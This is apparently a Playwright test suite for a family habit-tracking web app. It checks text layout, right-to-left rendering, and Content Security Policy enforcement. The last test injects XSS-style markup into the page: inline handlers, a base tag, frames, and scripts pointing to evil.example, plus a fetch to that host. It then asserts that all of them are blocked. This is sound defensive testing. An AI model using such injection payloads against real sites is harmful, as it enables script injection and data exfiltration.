import { expect } from '@playwright/test'
import { misfits } from '../faults/misfits.ts'
import { noise } from '../faults/noise.ts'
import { turnedRound } from '../faults/turned.ts'
import { BEGINS, CALLED, strangeFamily, turning, turningFamily } from '../strange-words.ts'
import { test } from '../test.ts'
import { settled } from '../walk.ts'

test.slow()

// biome-ignore format: a list to be read at a glance
const places = [
  '/', '/?tab=timeline', '/?tab=rewards', '/?tab=profile', '/?screen=behaviors', '/?screen=habits', '/?screen=skills',
  '/?screen=moments', '/?tab=profile&screen=weekSheet', '/?tab=profile&screen=growthBook', '/ai-chat',
]

test('whatever a family writes is shown as it was written, fits, and does nothing', async ({ page, server }) => {
  const complaints = await noise(page, server)
  await strangeFamily(page)
  const faults = []
  for (const place of places) {
    await page.goto(`/en${place}`)
    const begins = place === '/ai-chat' ? CALLED : BEGINS
    await expect(page.getByText(begins).filter({ visible: true }).first()).toBeVisible()
    await page.waitForLoadState('networkidle')
    await settled(page)
    // A word of a hundred letters must be broken somewhere.
    const broken = (await misfits(page, 'en')).filter((fault) => !fault.endsWith('is broken in two'))
    for (const fault of [...broken, ...complaints()]) faults.push(`${place}: ${fault}`)
  }
  expect(faults).toEqual([])
  expect(await page.evaluate(() => 'ran' in window)).toBe(false)
})

test('what is written from right to left turns nothing round that stands beside it', async ({ page }) => {
  await turningFamily(page)
  const faults: string[] = []
  const look = async (place: string) => {
    await settled(page)
    for (const fault of await turnedRound(page, Object.values(turning))) faults.push(`${place}: ${fault}`)
  }
  for (const place of [...places, '/?tab=profile&screen=family']) {
    await page.goto(`/en${place}`)
    await page.waitForLoadState('networkidle')
    await look(place)
  }
  await page.goto('/en?tab=profile')
  await page.getByRole('button', { name: /^Delete .+7/ }).click()
  await expect(page.getByRole('alertdialog')).toBeVisible()
  await look('to be asked')
  await page.getByRole('button', { name: 'Cancel' }).click()
  await page.getByRole('button', { name: /^Edit .+7/ }).click()
  await expect(page.getByLabel('Name')).toHaveCSS('direction', 'rtl')
  expect(faults).toEqual([])
})

test('what got into a page all the same does not run there, and nothing is told to another site', async ({ page }) => {
  await page.goto('/en')
  const forbidden = new Set<string>()
  await page.exposeFunction('hear', (directive: string) => void forbidden.add(directive))
  const told = await page.evaluate(async () => {
    const { hear } = window as unknown as { hear: (directive: string) => void }
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => hear(effectiveDirective))
    const frame = '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>'
    document.body.insertAdjacentHTML('beforeend', `<p onclick="ran=1">x</p><base href="https://evil.example/">${frame}`)
    for (const script of [{ textContent: 'ran=1' }, { src: 'https://evil.example/' }, { src: 'data:,ran=1' }])
      document.body.append(Object.assign(document.createElement('script'), script))
    document.querySelector<HTMLElement>('p[onclick]')?.click()
    const asked = [fetch('https://evil.example/'), fetch('/api/auth/ways')]
    return (await Promise.allSettled(asked)).map(({ status }) => status)
  })
  expect(told).toEqual(['rejected', 'fulfilled'])
  const all = ['base-uri', 'connect-src', 'frame-src', 'object-src', 'script-src-attr', 'script-src-elem']
  await expect.poll(() => [...forbidden].sort()).toEqual(all)
  expect(await page.evaluate(() => [document.baseURI, 'ran' in window])).toEqual([page.url(), false])
})
